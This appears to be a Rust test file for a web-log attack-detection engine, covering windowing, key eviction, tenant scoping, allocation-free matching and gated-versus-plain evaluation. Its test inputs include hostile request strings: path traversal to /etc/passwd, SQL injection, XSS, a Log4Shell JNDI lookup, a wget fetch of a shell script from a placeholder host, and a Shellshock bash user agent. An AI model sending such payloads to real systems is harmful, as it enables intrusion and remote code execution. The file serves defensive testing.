//! Engine behaviour that fixtures cannot show: late lines, the key cap,
//! tenants, and the no-allocation promise on lines that match nothing.

use nightowl::detect::{Engine, Firing, RuleSpec};
use nightowl::parse::{parse_line, Format, ParseContext};

#[path = "../benches/common/counting_alloc.rs"]
mod counting_alloc;

const S: i64 = 1_000_000_000;
const CTX: ParseContext = ParseContext {
    now_nanos: 1_730_000_000_000_000_000,
};

fn rules(yaml: &str) -> Vec<RuleSpec> {
    serde_yaml::Deserializer::from_str(yaml)
        .map(|d| serde::Deserialize::deserialize(d).expect("rule parses"))
        .collect()
}

fn engine(yaml: &str) -> Engine {
    Engine::new(&rules(yaml)).expect("rules compile")
}

fn feed(e: &mut Engine, line: &str, ts: i64, tenant: &str, out: &mut Vec<Firing>) {
    let ev = parse_line(line.as_bytes(), Format::Auto, &CTX).expect("line parses");
    e.evaluate(&ev, line, ts, tenant, out);
}

const FAIL: &str =
    "1.2.3.4 - - [10/Oct/2024:12:00:00 +0000] \"POST /login HTTP/1.1\" 401 10 \"-\" \"curl/8\"";

const THRESHOLD: &str = r#"
id: t
title: t
severity: warning
match: {field: status, equals: 401}
detect: {kind: threshold, key: client_ip, window: 1m, count: 3, lateness: 10s, max_keys: 2}
"#;

#[test]
fn rules_engine_counts_late_lines_in_the_windows_that_contain_them() {
    let mut e = engine(THRESHOLD);
    let mut out = Vec::new();
    feed(&mut e, FAIL, 100 * S, "default", &mut out);
    feed(&mut e, FAIL, 85 * S, "default", &mut out); // 15 s late: counts
    assert!(out.is_empty());
    feed(&mut e, FAIL, 95 * S, "default", &mut out); // 5 s late: the third
    assert_eq!(out.len(), 1);
    assert_eq!(out[0].count, 3);
    assert_eq!((out[0].first_ts / S, out[0].last_ts / S), (85, 100));
    assert_eq!(e.stats()[0].too_late, 0);
}

#[test]
fn rules_engine_caps_keys_with_lru_eviction() {
    let mut e = engine(THRESHOLD);
    let mut out = Vec::new();
    for (i, ip) in ["1.1.1.1", "2.2.2.2", "3.3.3.3", "4.4.4.4"]
        .iter()
        .enumerate()
    {
        let line = FAIL.replacen("1.2.3.4", ip, 1);
        feed(&mut e, &line, (10 + i as i64) * S, "default", &mut out);
    }
    let st = &e.stats()[0];
    assert_eq!((st.keys, st.evicted), (2, 2));
}

#[test]
fn rules_engine_keeps_tenants_apart_and_honours_scope() {
    let mut e = engine(&format!(
        "{THRESHOLD}---\nid: only-acme\ntitle: t\nseverity: info\ntenant: acme\nmatch: {{field: status, equals: 401}}\ndetect: {{kind: match, key: client_ip}}\n"
    ));
    let mut out = Vec::new();
    // Two failures per tenant: neither tenant reaches 3, although the
    // same IP failed 4 times overall.
    for (i, t) in ["acme", "globex", "acme", "globex"].iter().enumerate() {
        feed(&mut e, FAIL, (10 + i as i64) * S, t, &mut out);
    }
    let ids: Vec<(&str, &str)> = out
        .iter()
        .map(|f| (f.rule_id.as_str(), f.tenant.as_str()))
        .collect();
    assert_eq!(ids, vec![("only-acme", "acme")]);
    feed(&mut e, FAIL, 20 * S, "globex", &mut out);
    assert_eq!(
        out.last().map(|f| (f.rule_id.as_str(), f.tenant.as_str())),
        Some(("t", "globex"))
    );
}

#[test]
fn rules_engine_default_pack_allocates_nothing_on_benign_lines() {
    let loaded = nightowl::detect::load_dir(std::path::Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/rules"
    )))
    .expect("pack loads");
    let specs: Vec<RuleSpec> = loaded.into_iter().map(|r| r.spec).collect();
    let mut e = Engine::new(&specs).expect("pack compiles");
    let lines = [
        "192.0.2.1 - - [10/Oct/2024:12:00:00 +0000] \"GET /static/app.js?v=3%2E1 HTTP/1.1\" 200 512 \"https://example.com/\" \"Mozilla/5.0 (X11; Linux x86_64)\"",
        "192.0.2.2 - - [10/Oct/2024:12:00:01 +0000] \"GET /search?q=blue+shoes HTTP/1.1\" 200 4096 \"-\" \"Mozilla/5.0\"",
        "192.0.2.3 - - [10/Oct/2024:12:00:02 +0000] \"GET /api/v1/items HTTP/1.1\" 404 10 \"-\" \"Mozilla/5.0\"",
    ];
    let events: Vec<_> = lines
        .iter()
        .map(|l| parse_line(l.as_bytes(), Format::Auto, &CTX).expect("parses"))
        .collect();
    let mut out = Vec::with_capacity(16);
    // Warm-up: keys of stateful rules (volume, distinct) are created and
    // buffers, windows and LRU queues grow to their steady size; afterwards
    // more of the same must not allocate. A round a minute for 2 h: every
    // time slot of the pack's longest window (1 h) has been filled and
    // expired, at a rate no rule calls an attack.
    let run = |e: &mut Engine, rounds: std::ops::Range<i64>, out: &mut Vec<Firing>| {
        for round in rounds {
            for (i, (ev, l)) in events.iter().zip(lines).enumerate() {
                let ts = 1_728_561_600 * S + round * 60 * S + i as i64 * S;
                e.evaluate(ev, l, ts, "default", out);
            }
        }
    };
    run(&mut e, 0..120, &mut out);
    let before = counting_alloc::allocations();
    run(&mut e, 120..240, &mut out);
    let after = counting_alloc::allocations();
    assert!(out.is_empty(), "{out:?}");
    assert_eq!(after - before, 0, "allocations on benign lines");
}

/// The shared gates (each rule visited only when its most selective
/// necessary test passed) must fire exactly as the plain path, which runs
/// every rule's whole filter on every line: random lines built from the
/// pieces the rules look for, the default pack, the Sigma pack and rules
/// whose filters are `not`, `any`, tenant-scoped or absent.
#[test]
fn rules_engine_gated_evaluation_fires_exactly_as_the_plain_path() {
    let root = std::path::Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules"));
    let mut specs: Vec<RuleSpec> = Vec::new();
    let examples = root.join("../examples/sigma");
    for dir in [root.to_path_buf(), root.join("sigma"), examples] {
        let loaded = nightowl::detect::load_dir(&dir).expect("pack loads");
        specs.extend(loaded.into_iter().map(|r| r.spec));
    }
    specs.extend(rules(
        r#"
id: not-static
title: t
severity: info
match: {not: {field: path, startswith: [/static/, /img/]}}
detect: {kind: threshold, key: client_ip, window: 1m, count: 7}
---
id: any-admin-or-post
title: t
severity: info
match: {any: [{field: path, contains: admin}, {field: method, equals: POST}]}
detect: {kind: distinct, key: client_ip, field: path, window: 5m, count: 3}
---
id: acme-only
title: t
severity: info
tenant: acme
match: {all: [{field: status, gte: 400}, {field: path, startswith: /api}]}
detect: {kind: match, key: [client_ip, path]}
---
id: everything
title: t
severity: info
detect: {kind: spike, key: host, window: 1m, warmup: 3, count: 5, z: 2}
---
id: new-agent-on-login
title: t
severity: info
match: {all: [{field: path, decode: true, regex: 'log-?in'}, {field: status, lt: 400}]}
detect: {kind: new_value, key: user_agent, learning: 20s}
---
id: burst-then-write
title: t
severity: info
match: {field: path, startswith: /api}
detect: {kind: sequence, key: client_ip, window: 2m, count: 2, first: {field: status, gte: 400}, then: {field: method, equals: [POST, PUT]}}
"#,
    ));
    let mut gated = Engine::new(&specs).expect("rules compile");
    let mut plain = Engine::new(&specs).expect("rules compile");
    plain.set_plain_evaluation(true);

    let hosts = ["shop.example ", "api.example ", ""];
    let methods = ["GET", "GET", "GET", "POST", "PUT", "HEAD"];
    let paths = [
        "/",
        "/login",
        "/wp-login.php",
        "/api/v1/items?id=1",
        "/api/session",
        "/static/app.js",
        "/img/a.png",
        "/admin/",
        "/wp-admin/setup.php",
        "/.env",
        "/.git/config",
        "/download?file=..%2f..%2fetc%2fpasswd",
        "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL--",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?x=${jndi:ldap://e/a}",
        "/cgi-bin/;wget%20http://e/x.sh",
        "/autodiscover/autodiscover.json?@x.com/owa/",
        "/vpns/../vpns/cfg/smb.conf",
        "/p?class.module.classLoader.x=1",
        "/search?q=select+a+union+b",
    ];
    let agents = [
        "Mozilla/5.0 (X11; Linux x86_64)",
        "curl/8.5.0",
        "sqlmap/1.7.2",
        "() { :; }; /bin/bash -c id",
        "Mozilla/5.0 zgrab/0.x",
        "python-requests/2.31",
    ];
    let statuses = [200, 200, 200, 302, 401, 403, 404, 500, 503];
    let mut x = 0x853c_49e6_748f_ea9bu64;
    let mut next = move |n: usize| {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        (x % n as u64) as usize
    };
    let (mut out_gated, mut out_plain) = (Vec::new(), Vec::new());
    let t0 = 1_728_561_600 * S;
    for i in 0..30_000i64 {
        // A third of the way in, every path is new for 8,000 lines (ids in
        // the query), so the memos of the path's views stop answering and
        // are skipped, then used again.
        let mut path = paths[next(paths.len())].to_string();
        if (10_000..18_000).contains(&i) {
            path.push(if path.contains('?') { '&' } else { '?' });
            path.push_str(&format!("n={i}"));
        }
        let line =
            format!(
            "{}10.0.{}.{} - {} [10/Oct/2024:12:00:00 +0000] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"",
            hosts[next(hosts.len())],
            next(3),
            next(6) + 1,
            ["-", "alice", "bob", "u7"][next(4)],
            methods[next(methods.len())],
            path,
            statuses[next(statuses.len())],
            next(3) * 400_000_000,
            ["-", "https://shop.example/", "https://e/?q=%27%20or%201=1--"][next(3)],
            agents[next(agents.len())],
        );
        let tenant = ["default", "acme"][next(2)];
        // Mostly in order, sometimes a little late.
        let ts = t0 + i * S / 20 - (next(4) as i64) * S;
        let ev = parse_line(line.as_bytes(), Format::Auto, &CTX).expect("line parses");
        gated.evaluate(&ev, &line, ts, tenant, &mut out_gated);
        plain.evaluate(&ev, &line, ts, tenant, &mut out_plain);
        if i % 5000 == 4999 {
            gated.tick(ts + 20 * 60 * S, &mut out_gated);
            plain.tick(ts + 20 * 60 * S, &mut out_plain);
        }
    }
    assert_eq!(out_gated.len(), out_plain.len());
    assert_eq!(out_gated, out_plain);
    // Enough rules of enough kinds fired for the comparison to mean something.
    let fired: std::collections::BTreeSet<&str> =
        out_plain.iter().map(|f| f.rule_id.as_str()).collect();
    assert!(fired.len() >= 20, "{} rules fired: {fired:?}", fired.len());
    assert_eq!(gated.stats(), plain.stats());
}
